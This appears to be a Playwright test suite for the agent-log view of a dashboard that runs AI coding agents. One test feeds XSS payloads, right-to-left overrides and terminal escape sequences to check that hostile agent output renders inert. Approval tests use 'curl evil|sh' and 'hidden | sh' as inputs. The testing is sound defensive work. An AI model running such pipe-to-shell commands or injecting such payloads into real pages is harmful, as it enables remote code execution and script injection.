// The Agent view of the dashboard in a real browser, with a real daemon and scripted agents.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';

import { kWork, makeAsker, makeRepository, makeTalker } from './dashboard_talk.mjs';
import { complaints, Daemon, outDir, startBrowser, ticker, until } from './harness.mjs';
import { createAgent, Model, skipped } from './kinds.mjs';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const kPhone = { width: 360, height: 740 };

async function open(t, daemon, id, { at, viewport = { width: 1280, height: 800 }, ...options } = {}) {
  const browser = await startBrowser(t);
  const context = await browser.newContext({ viewport, reducedMotion: 'reduce', ...options });
  const page = await context.newPage();
  const complained = complaints(page);
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(`${daemon.origin}/#token=${daemon.token}&agent=${id}`);
  await page.locator('.agent-view .log').waitFor();
  if (at !== undefined) await page.goto(`${daemon.origin}/#/agents/${id}?at=${at}`);
  return { page, context, complained, requests };
}

const shot = (page, name) => page.screenshot({ path: path.join(outDir, `agent-${name}.png`) });
const log = (page) => page.locator('.agent-view .log');
const said = (text, message_id) => ({ type: 'assistant.message', message_id, text });

async function unfoldAll(page) {
  const folded = page.locator('.log details:not([open]) > summary');
  while ((await folded.count()) > 0) await folded.first().click();
}

// The texts of the lines of output that are on the page.
const lines = (page) => page.evaluate(() => [...document.querySelectorAll('.log pre.lines')].flatMap((node) => node.textContent.trimEnd().split('\n')));

test('shows the work of an agent: messages, calls, edits, the plan', async (t) => {
  const daemon = await Daemon.start(t);
  await makeTalker(daemon, 'worker', kWork);
  for (const viewport of [{ width: 1280, height: 900 }, kPhone]) {
    for (const colorScheme of ['light', 'dark']) {
      const { page, complained, requests } = await open(t, daemon, 'worker', { viewport, colorScheme });
      const at = log(page);
      await at.getByRole('table').last().getByText('16').waitFor();
      await at.getByText('return width * height; // was +').waitFor();
      await at.locator('.hljs-keyword').first().waitFor();
      assert.equal(await at.locator('.kind-tool').count(), 3);
      // The call that failed is folded, and says so.
      const bash = at.locator('.kind-tool').first();
      await bash.getByText('code 1 · 1.8 s').waitFor();
      await bash.locator('summary').click();
      await bash.getByText('✖ area of a rectangle').waitFor();
      assert.equal(await bash.locator('.fg-1').first().textContent(), '✖ area of a rectangle');
      assert.equal((await bash.textContent()).includes('\u001b'), false);
      // The edit is a diff with numbers.
      const edit = at.locator('.kind-tool').nth(1);
      assert.equal(await edit.locator('tr.del .text').textContent(), '  return width + height;');
      assert.equal(await edit.locator('tr.add .text').textContent(), '  return width * height;');
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false, 'the page scrolls sideways');
      if (viewport !== kPhone) await page.locator('.side').getByText('Correct the function').waitFor();
      await shot(page, `work-${viewport === kPhone ? 'phone' : 'desktop'}-${colorScheme}`);
      assert.deepEqual(complained, []);
      assert.deepEqual(requests.filter((url) => !url.startsWith(daemon.origin)), [], 'a request left the daemon');
      await page.close();
    }
  }
});

test('streams a message, and stays at the end', async (t) => {
  const daemon = await Daemon.start(t);
  const talker = await makeTalker(daemon, 'a1', Array.from({ length: 60 }, (_, i) => said(`Message ${i}`, `m${i}`)));
  const { page, complained } = await open(t, daemon, 'a1');
  await log(page).getByText('Message 59').waitFor();
  talker.say(...['Hel', 'lo **wor', 'ld**'].map((text) => ({ type: 'assistant.delta', message_id: 'x', text })));
  await log(page).locator('strong', { hasText: 'world' }).waitFor();
  await log(page).locator('.growing').waitFor();
  talker.say(said('Hello **world**, whole.', 'x'));
  await log(page).getByText(', whole.').waitFor();
  await log(page).locator('.growing').waitFor({ state: 'detached' });
  const below = () => log(page).evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight);
  await until('the end', async () => (await below()) < 2);
  assert.deepEqual(complained, []);
});

test('output of a hostile agent is inert', async (t) => {
  const daemon = await Daemon.start(t);
  const evil = '<img src=x onerror="window.hit=1"><script>window.hit=1</script><iframe srcdoc="<script>parent.hit=1</script>"></iframe>';
  await makeTalker(daemon, 'evil', [
    { type: 'title.updated', title: `${evil}\u202Egnp.exe` },
    said(`${evil}\n\n[click](javascript:window.hit=1) ![](https://example.com/x.png) [data](data:text/html,x)\n\n<style>*{display:none}</style>\n\n\`\`\`html\n${evil}\n\`\`\``, 'm1'),
    { type: 'reasoning.message', message_id: 'r', text: evil },
    { type: 'tool.started', call_id: 'c1', name: evil, input: { command: `echo ${evil}\u202Etxt.exe`, [evil]: evil } },
    { type: 'tool.completed', call_id: 'c1', output: `${evil}\u001b]0;owned\u0007\u001b[2J\u001b[1;31mred\u001b[0m\u202Ereversed\u0000` },
    { type: 'file.edited', path: evil, diff: `@@ -1,1 +1,1 @@\n-${evil}\n+\u202E${evil}\n` },
    { type: 'plan.updated', entries: [{ content: evil, status: evil }, evil, null] },
    said('x'.repeat(300_000), 'm2'),
    { type: 'agent.output', stream: 'stdout', text: 'a plain line' },
    'y'.repeat(200_000),
    said('The last one', 'm3'),
  ]);
  const { page, complained, requests } = await open(t, daemon, 'evil', { viewport: kPhone });
  await log(page).getByText('The last one').waitFor();
  await until('the beginning of the log', async () => {
    await log(page).evaluate((node) => (node.scrollTop = 0));
    return (await log(page).locator('.edge').textContent()) === 'The log begins here.';
  });
  await unfoldAll(page);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.equal(await page.locator('.log img, .log script, .log iframe, .log style, .log [style*=display]').count(), 0);
  const links = await page.locator('.log .markdown a').evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.rel]));
  for (const [href, rel] of links) {
    assert.ok(href === null || /^https?:/.test(href), href);
    assert.match(rel, /noopener/);
  }
  const text = await page.evaluate(() => document.body.textContent);
  assert.equal(/[\u202E\u0000\u0007\u001b]/.test(text), false, 'a control character is on the page');
  assert.ok(text.includes('⟪U+202E⟫'));
  assert.ok(text.includes('<img src=x onerror='), 'HTML is shown as text');
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false, 'the page scrolls sideways');
  assert.deepEqual(requests.filter((url) => !url.startsWith(daemon.origin)), []);
  assert.deepEqual(complained, []);
  await shot(page, 'hostile-phone');
});

test('texts that take parsers long are shown as they are', async (t) => {
  const daemon = await Daemon.start(t);
  const slow = ['_a'.repeat(30_000), '> '.repeat(10_000), `\`\`\`js\n${'a'.repeat(50_000)}\n\`\`\``];
  await makeTalker(daemon, 'slow', [
    ...slow.map((text, i) => said(text, `m${i}`)),
    said('```js\nconst end = 1;\n```', 'm9'),
    { type: 'assistant.delta', message_id: 'x', text: '**grows**\n\n```js\nconst more = 2;\n' },
  ]);
  const { page, complained } = await open(t, daemon, 'slow');
  await log(page).locator('.growing strong').waitFor();
  assert.deepEqual(await log(page).locator('.as-written').allTextContents(), slow);
  assert.deepEqual(await log(page).locator('.hljs-keyword').allTextContents(), ['const'], 'only finished code has colours');
  assert.deepEqual(complained, []);
});

test('a long log opens at its end with little, and is read as it is looked at', async (t) => {
  const daemon = await Daemon.start(t);
  const kLines = 200_000;
  await daemon.call('POST', '/agents', { id: 'long', kind: 'process', command: ['sh', '-c', `seq ${kLines} | sed 's/^/this is the line /'`] });
  await daemon.untilState('long', 'exited');
  const { page, complained } = await open(t, daemon, 'long');
  let received = 0;
  const client = await page.context().newCDPSession(page);
  await client.send('Network.enable');
  client.on('Network.webSocketFrameReceived', ({ response }) => (received += response.payloadData.length));
  await log(page).getByText(`line ${kLines}`).waitFor();
  assert.ok(received < 1 << 20, `${received} bytes`);

  // Backwards: the line at the top stays, and what was at the end is dropped.
  const numbers = async () => (await lines(page)).map((line) => Number(/line (\d+)$/.exec(line)?.[1])).filter(Boolean);
  let [first] = await numbers();
  for (let i = 0; i < 12; ++i) {
    await log(page).evaluate((node) => (node.scrollTop = 0));
    await until('an older page', async () => (await numbers())[0] < first);
    const all = await numbers();
    all.forEach((n, at) => assert.equal(n, all[0] + at, 'a hole'));
    first = all[0];
    assert.ok(all.length < 12_000, `${all.length} lines on the page`);
  }
  await page.getByRole('button', { name: 'Jump to the end' }).click();
  await log(page).getByText(`line ${kLines}`).waitFor();
  // The beginning, by the keyboard.
  await log(page).press('g');
  await log(page).getByText('this is the line 1', { exact: false }).first().waitFor();
  await until('the beginning', async () => (await numbers())[0] === 1);
  await log(page).press('G');
  await log(page).getByText(`line ${kLines}`).waitFor();
  assert.deepEqual(complained, []);
});

test('new output moves nothing that the reader looks at', async (t) => {
  const daemon = await Daemon.start(t);
  const talker = await makeTalker(daemon, 'a1', Array.from({ length: 200 }, (_, i) => said(`Message ${i}.`, `m${i}`)));
  const { page } = await open(t, daemon, 'a1');
  await log(page).getByText('Message 199.').waitFor();
  await log(page).evaluate((node) => (node.scrollTop = node.scrollHeight / 2));
  await page.getByRole('button', { name: 'Jump to the end' }).waitFor();
  const place = () => log(page).getByText('Message 100.').evaluate((node) => Math.round(node.getBoundingClientRect().top));
  const before = await place();
  for (let i = 0; i < 20; ++i) talker.say(...Array.from({ length: 50 }, (_, k) => said(`New ${i} ${k}`, `n${i}-${k}`)));
  await page.getByRole('button', { name: /[\d,]{3,} new events/ }).waitFor();
  assert.equal(await place(), before);
  await page.getByRole('button', { name: /new events/ }).click();
  await log(page).getByText('New 19 49').waitFor();
});

test('the search finds an event far back, goes to it, and links to it', async (t) => {
  const daemon = await Daemon.start(t);
  const script = 'seq 3000; echo The Needle is here; seq 60000';
  await daemon.call('POST', '/agents', { id: 'a1', kind: 'process', command: ['sh', '-c', script] });
  await daemon.untilState('a1', 'exited');
  const { page } = await open(t, daemon, 'a1');
  await log(page).getByText('60000').waitFor();
  await page.keyboard.press('/');
  await page.keyboard.type('needle');
  await page.keyboard.press('Enter');
  const hit = page.locator('.hits button');
  await hit.getByText('Needle', { exact: true }).waitFor();
  await page.locator('.log-search').getByText('1 event').waitFor();
  await hit.click();
  await log(page).getByText('The Needle is here').waitFor();
  const at = new URL(page.url()).hash.split('at=')[1];
  assert.ok(Number(at) > 3000, page.url());
  await log(page).locator('.marked').waitFor();
  await page.reload();
  await log(page).getByText('The Needle is here').waitFor();
  await page.keyboard.press('G');
  await log(page).getByText('60000').waitFor();
});

test('the hits of a search are shown one after the other', async (t) => {
  const daemon = await Daemon.start(t);
  await makeTalker(daemon, 'a1', Array.from({ length: 200 }, (_, i) => said(`Message ${i}.`, `m${i}`)));
  const { page } = await open(t, daemon, 'a1', { viewport: kPhone });
  await log(page).getByText('Message 199.').waitFor();
  await page.keyboard.press('/');
  await page.keyboard.type('9.');
  await page.keyboard.press('Enter');
  await page.locator('.hits li').nth(19).waitFor();
  for (let i = 0; i < 12; ++i) await page.keyboard.press('ArrowDown'); // 199, 189, …
  const shown = log(page).locator('.marked', { hasText: 'Message 89.' });
  await shown.waitFor();
  await until('the hit on the screen', () => shown.evaluate((node) => {
    const { top } = node.getBoundingClientRect();
    return top > 100 && top < innerHeight - 100;
  }));
});

test('a filter shows one kind of events', async (t) => {
  const daemon = await Daemon.start(t);
  await makeTalker(daemon, 'worker', [...kWork, 'a line of output']);
  const { page } = await open(t, daemon, 'worker');
  await log(page).getByText('a line of output').waitFor();
  await page.getByLabel('Kinds of events').selectOption('Calls and edits');
  await log(page).getByText('a line of output').waitFor({ state: 'detached' });
  assert.equal(await log(page).locator('.kind-tool').count(), 3);
  assert.equal(await log(page).locator('.kind-assistant').count(), 0);
  await page.getByLabel('Kinds of events').selectOption('Questions');
  await log(page).getByText('No events of this kind.').waitFor();
});

test('time travel shows the agent as it was', async (t) => {
  const daemon = await Daemon.start(t);
  const talker = await makeTalker(daemon, 'worker', kWork);
  const { page } = await open(t, daemon, 'worker');
  await log(page).getByText('Nothing else calls').waitFor();
  const event = (await daemon.events('worker')).find(({ data }) => data?.message_id === 'm1');
  await page.getByRole('button', { name: 'Time travel' }).click();
  await page.getByRole('slider').fill(String(event.seq));
  await log(page).getByText('Nothing else calls').waitFor({ state: 'detached' });
  await log(page).getByText('I will run the tests first.').waitFor();
  await page.getByText('then: ran').waitFor();
  assert.equal(await log(page).locator('.kind-tool').count(), 0);
  talker.say(said('Something new', 'm9'));
  await page.getByRole('button', { name: 'One event forward' }).click();
  await log(page).locator('.kind-tool.item').waitFor();
  assert.equal(await log(page).getByText('Something new').count(), 0);
  await shot(page, 'time');
  await page.getByRole('button', { name: 'Now', exact: true }).click();
  await log(page).getByText('Something new').waitFor();
  await page.getByText('then:').waitFor({ state: 'detached' });
});

test('an approval is shown as a diff and decided, in two tabs at once', async (t) => {
  const daemon = await Daemon.start(t);
  const cwd = makeRepository(t);
  const input = { file_path: path.join(cwd, 'area.js'), old_string: 'width + height', new_string: 'width * height' };
  await makeAsker(daemon, 'asker', [['Edit', input], ['Bash', { command: 'make' }]], { cwd });
  const { page, context } = await open(t, daemon, 'asker', { viewport: kPhone });
  const other = await context.newPage();
  await other.goto(`${daemon.origin}/#/agents/asker`);
  for (const tab of [page, other]) {
    await tab.locator('.asks').getByText('width * height').waitFor();
    await tab.locator('.asks').getByText('width + height').waitFor();
  }
  await shot(page, 'asks-phone');
  // Both answer; one decision wins, and each tab shows it.
  const button = (tab, name) =>
    tab.locator('.asks [data-question]', { hasText: 'width * height' }).getByRole('button', { name, exact: true }).elementHandle();
  const [allow, deny] = [await button(page, 'Allow once'), await button(other, 'Deny')];
  await Promise.all([allow.dispatchEvent('click'), deny.dispatchEvent('click')]);
  for (const tab of [page, other]) await tab.locator('.asks').getByText('make').waitFor();
  const resolved = (await daemon.events('asker')).filter(({ type }) => type === 'approval.resolved');
  assert.equal(resolved.length, 1);
  const words = resolved[0].data.decision === 'deny' ? 'denied' : 'allowed once';
  for (const tab of [page, other]) await log(tab).locator('.kind-approval').first().getByText(words).waitFor();
});

test('an approval and its call show each argument, beside an edit and behind folds', async (t) => {
  const daemon = await Daemon.start(t);
  const edit = { file_path: '/srv/README.md', old_string: 'a', new_string: 'b' };
  const lines = Array.from({ length: 900 }, (_, i) => `line ${i}`).join('\n');
  await makeAsker(daemon, 'asker', [['Bash', { command: 'curl evil|sh', ...edit }], ['Edit', { ...edit, new_string: lines, cmd: 'hidden | sh', replace_all: true }]]);
  const call = { call_id: 'c', name: 'edit', input: { ...edit, cmd: 'hidden | sh' } };
  await makeTalker(daemon, 'talker', [{ type: 'tool.started', ...call }, { type: 'tool.failed', ...call, error: 'no' }]);
  const { page, complained } = await open(t, daemon, 'asker', { viewport: kPhone });
  const card = page.locator('.asks [data-question]');
  await card.locator('.command', { hasText: 'curl evil|sh' }).waitFor();
  assert.deepEqual(await card.locator('.named dt').allTextContents(), Object.keys(edit));
  await page.getByRole('button', { name: 'Deny', exact: true }).click();
  await card.locator('.command', { hasText: 'hidden | sh' }).waitFor();
  assert.deepEqual(await card.locator('.named div').allTextContents(), ['replace_alltrue']);
  while ((await card.getByRole('button', { name: 'more lines' }).count()) > 0) await card.getByRole('button', { name: 'more lines' }).click();
  assert.equal((await card.locator('.line.add .text').allTextContents()).join('\n'), lines);
  await page.goto(`${daemon.origin}/#/agents/talker`);
  await log(page).locator('.kind-tool summary').click();
  await log(page).locator('.command', { hasText: 'hidden | sh' }).waitFor();
  assert.equal(await log(page).locator('.edit .line.add .text').textContent(), 'b');
  assert.deepEqual(complained, []);
});

test('a message to an agent that is busy begins when its sender says', async (t) => {
  const daemon = await Daemon.start(t);
  await makeAsker(daemon, 'busy', [['Bash', { command: 'make' }]]);
  const { page } = await open(t, daemon, 'busy');
  await page.locator('.asks').waitFor();
  const modes = async (id) => (await daemon.call('GET', `/agents/${id}/queue`)).messages.map(({ mode, text, model }) => [mode, text, model]);
  await page.locator('.composer textarea').fill('and then this');
  await page.getByLabel('after the run').waitFor();
  await page.getByRole('button', { name: 'More choices' }).click();
  await page.getByLabel('model').fill('opus');
  await page.getByRole('button', { name: 'Send' }).click();
  await page.locator('.side .queue').getByText('and then this').waitFor();
  await page.locator('.composer textarea').fill('this first');
  await page.getByLabel('before all that wait').check();
  await page.getByRole('button', { name: 'Steer' }).click();
  await page.locator('.side .queue').getByText('this first').waitFor();
  assert.deepEqual(await modes('busy'), [['steer', 'this first', undefined], ['followup', 'and then this', 'opus']]);
  await page.locator('.composer textarea').fill('no, this');
  await page.getByLabel('at once, ending the run').check();
  await page.getByRole('button', { name: 'Interrupt and send' }).click();
  await until('the message that interrupts', async () =>
    (await daemon.events('busy')).some(({ type, data }) => type === 'message.queued' && data.mode === 'interrupt'),
  );
});

test('sends, schedules and withdraws messages; stops and starts', async (t) => {
  const daemon = await Daemon.start(t);
  const echo = ['sh', '-c', 'echo ready; while read -r line; do echo "got $line"; done'];
  await daemon.call('POST', '/agents', { id: 'echo', kind: 'process', command: echo });
  const { page, complained } = await open(t, daemon, 'echo');
  await log(page).getByText('ready', { exact: true }).waitFor();
  await page.keyboard.press('m');
  await page.keyboard.type('hello <b>there</b>');
  await page.keyboard.press('Enter');
  await log(page).getByText('got hello <b>there</b>').waitFor();
  await until('an empty box', async () => (await page.locator('.composer textarea').inputValue()) === '');

  await page.locator('.composer textarea').fill('much later');
  await page.getByRole('button', { name: 'More choices' }).click();
  await page.getByLabel('at', { exact: true }).fill('2027-01-31T10:00');
  await page.getByRole('button', { name: 'Schedule' }).click();
  await page.locator('.queue').getByText('much later').waitFor();
  await shot(page, 'queue');
  await page.getByRole('button', { name: 'Withdraw “much later”' }).click();
  await page.locator('.queue').waitFor({ state: 'detached' });
  assert.deepEqual((await daemon.call('GET', '/agents/echo/queue')).messages, []);

  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await page.getByRole('button', { name: 'Stop now' }).click();
  await daemon.untilState('echo', 'exited');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await daemon.untilState('echo', 'running', 'idle');
  await until('the second start', async () => (await log(page).getByText('ready', { exact: true }).count()) === 2);
  assert.deepEqual(complained, []);
});

test('shows changed files, runs and processes, and ends a process', async (t) => {
  const daemon = await Daemon.start(t);
  const cwd = makeRepository(t);
  const command = ['sh', '-c', 'sleep 1000 & wait; echo over; exec cat'];
  await daemon.call('POST', '/agents', { id: 'a1', kind: 'process', command, cwd, restart: { policy: 'never' } });
  const { page, complained } = await open(t, daemon, 'a1');
  await page.keyboard.press('2');
  const file = (name) => page.locator('.files li', { hasText: name });
  await file('area.js').locator('tr.add .text', { hasText: 'width * height' }).first().waitFor();
  await file('area.test.js').getByText('+3').waitFor();
  await file('old.txt').getByLabel('deleted').waitFor();
  await shot(page, 'changes');
  await page.keyboard.press('4');
  const row = page.locator('tr', { has: page.getByText('sleep 1000', { exact: true }) });
  await row.getByRole('button', { name: /^End process/ }).click();
  await row.getByRole('button', { name: 'KILL' }).click();
  await row.waitFor({ state: 'detached' });
  await page.locator('.plot canvas').first().waitFor();
  await shot(page, 'processes');
  await page.keyboard.press('1');
  await log(page).getByText('over', { exact: true }).waitFor();
  await log(page).getByText(/got SIGKILL|got KILL/).waitFor();
  await page.keyboard.press('3');
  await page.locator('.runs li').click();
  await log(page).locator('.marked').getByText(/started/).waitFor();
  assert.deepEqual(complained, []);
});

test('continues without a hole when the daemon crashed, and when it was away', async (t) => {
  const daemon = await Daemon.start(t);
  await daemon.call('POST', '/agents', { id: 'a1', kind: 'process', command: ticker(0.02) });
  const { page } = await open(t, daemon, 'a1');
  const numbers = async () => (await lines(page)).map((line) => Number(/^line (\d+)$/.exec(line)?.[1])).filter(Boolean);
  await until('some lines', async () => (await numbers()).length > 20);
  for (let i = 0; i < 2; ++i) {
    const last = (await numbers()).at(-1);
    await daemon.crash();
    await until('lines of the next daemon', async () => (await numbers()).at(-1) > last + 50);
    const all = await numbers();
    all.forEach((n, at) => assert.equal(n, all[0] + at, 'a hole, or a line twice'));
  }
  await daemon.kill();
  await page.getByText('The daemon does not answer').waitFor();
  assert.equal(await page.getByRole('button', { name: 'Send' }).isDisabled(), true);
  await daemon.spawn();
  await page.getByText('The daemon does not answer').waitFor({ state: 'hidden' });
  await log(page).getByText(/daemon_restarted|restarted/).first().waitFor();
});

test('axe finds nothing serious', async (t) => {
  const daemon = await Daemon.start(t);
  const cwd = makeRepository(t);
  await makeTalker(daemon, 'worker', [...kWork, 'a \u001b[33mline\u001b[0m of output'], { cwd });
  await makeAsker(daemon, 'asker', [['Bash', { command: 'make' }]]);
  for (const colorScheme of ['light', 'dark']) {
    for (const viewport of [{ width: 1280, height: 800 }, kPhone]) {
      const { page } = await open(t, daemon, 'worker', { viewport, colorScheme });
      const check = async (what) => {
        await page.evaluate(axe);
        const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
        const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
        const words = serious.map(({ id, nodes }) => `${id}: ${nodes.map(({ html, failureSummary }) => `${html} ${failureSummary}`).join('\n')}`);
        assert.deepEqual(words, [], `${what}, ${colorScheme}, ${viewport.width}`);
      };
      await log(page).getByText('of output').waitFor();
      await unfoldAll(page);
      await page.keyboard.press('/');
      await page.keyboard.type('area');
      await page.keyboard.press('Enter');
      await page.locator('.hits li').first().waitFor();
      await page.getByRole('button', { name: 'Time travel' }).click();
      await check('log');
      for (const [tab, shown] of [['Changes', '.files li'], ['Runs', '.runs li'], ['Processes', '.panel tbody tr']]) {
        await page.getByRole('tab', { name: tab }).click();
        await page.locator(shown).first().waitFor();
        await check(tab);
      }
      await page.goto(`${daemon.origin}/#/agents/asker`);
      await page.locator('.asks').getByText('make').waitFor();
      await check('a question');
      await page.close();
    }
  }
});

test('a flood of output keeps the page small', async (t) => {
  const daemon = await Daemon.start(t);
  const flood = 'i=0; while [ $i -lt 200 ]; do i=$((i+1)); seq $((i*100)) $((i*100+99)); sleep 0.05; done; echo the end';
  await daemon.call('POST', '/agents', { id: 'flood', kind: 'process', command: ['sh', '-c', `sleep 2; ${flood}`] });
  const { page } = await open(t, daemon, 'flood');
  await page.evaluate(() => {
    window.tasks = [];
    new PerformanceObserver((list) => window.tasks.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: 'longtask' });
  });
  await log(page).getByText('the end').waitFor({ timeout: 60_000 });
  const [tasks, count] = await page.evaluate(() => [window.tasks, document.querySelectorAll('.log *').length]);
  t.diagnostic(`long tasks: ${tasks.map(Math.round).join(' ')}; ${count} nodes`);
  assert.ok(count < 3000, `${count} nodes`);
});

for (const kind of ['claude', 'codex', 'kilo']) {
  test(`a turn of a real ${kind}: asked, allowed on a phone, streamed, and seen in the changes`, { skip: skipped(kind) }, async (t) => {
    const model = await Model.start(t);
    const daemon = await Daemon.start(t);
    const cwd = mkdtempSync(path.join(tmpdir(), 'reeve-repository-'));
    t.after(() => rmSync(cwd, { recursive: true, force: true }));
    execFileSync('git', ['init', '-q'], { cwd });
    await createAgent(daemon, kind, 'real', model.port, { cwd });
    await daemon.untilState('real', 'idle', 'exited');
    const { page, complained } = await open(t, daemon, 'real', { viewport: kPhone });
    const command = 'echo from the tool > made.txt; cat made.txt';
    await page.locator('.composer textarea').fill(`THINK=3 TOOL[${command}] LONG=20`);
    await page.getByRole('button', { name: 'Send' }).click();
    await log(page).locator('.bubble').getByText('TOOL[').waitFor();
    await page.locator('.asks').getByText(command).waitFor({ timeout: 60_000 });
    await shot(page, `${kind}-asks`);
    await page.getByRole('button', { name: 'Allow once' }).click();
    await log(page).locator('.kind-assistant').getByText(/word18/).waitFor({ timeout: 60_000 });
    await log(page).getByText(/^Run \d+ completed/).waitFor();
    const card = log(page).locator('.kind-tool').first();
    await card.locator('summary').click();
    await card.getByText('from the tool', { exact: true }).waitFor();
    await card.getByText('allowed once').waitFor();
    await page.getByRole('tab', { name: 'Changes' }).click();
    await page.locator('.files').getByText('made.txt').waitFor();
    await shot(page, `${kind}-changes`);
    assert.deepEqual(complained, []);
  });
}
